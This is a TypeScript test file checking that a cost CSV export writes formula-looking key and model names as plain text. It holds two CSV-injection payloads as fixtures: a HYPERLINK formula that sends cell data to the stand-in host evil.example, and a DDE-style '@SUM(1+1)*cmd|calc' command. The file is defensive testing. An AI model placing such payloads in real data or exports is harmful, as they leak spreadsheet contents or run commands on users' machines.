import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { costCsv, costQuery } from '../src/server/cost';
import { createKey, createKeyInput } from '../src/server/keys';
import { type AdminTestContext, readAll, startAdminTestContext } from './admin-test-context';
import { insertHourlyRollups } from './rollup-fixtures';

let t: AdminTestContext;
const KEY_NAME = '=HYPERLINK("http://evil.example/?"&A1,"open")';
const window = { from: '2030-01-15T07:30:00Z', to: '2030-01-15T09:30:00Z' };

beforeAll(async () => {
  t = await startAdminTestContext();
  // Key names are chosen by whoever may create keys; model names by whoever calls the router.
  const keyId = (await createKey(t.ctx, t.owner, createKeyInput.parse({ name: KEY_NAME }))).key.id;
  await insertHourlyRollups(t.prisma, [
    {
      bucketStart: '2030-01-15T08:00:00Z',
      keyId,
      model: '@SUM(1+1)*cmd|calc',
      requests: 2,
      costMicros: 1_500n,
    },
  ]);
});
afterAll(async () => {
  await t?.close();
});

describe('cost CSV export', () => {
  it('writes a formula-looking key name as text', async () => {
    const csv = await readAll(await costCsv(t.ctx, t.viewer, costQuery.parse({ ...window, groupBy: 'key' })));
    const line = csv.split('\r\n')[1] ?? '';
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`);
    expect(line).not.toMatch(/,=|,"=/);
  });

  it('writes a formula-looking model name as text', async () => {
    const csv = await readAll(
      await costCsv(t.ctx, t.viewer, costQuery.parse({ ...window, groupBy: 'model' })),
    );
    const line = csv.split('\r\n')[1] ?? '';
    expect(line).toContain(",'@SUM(1+1)*cmd|calc,");
    expect(line.endsWith(',0.0015')).toBe(true);
  });
});
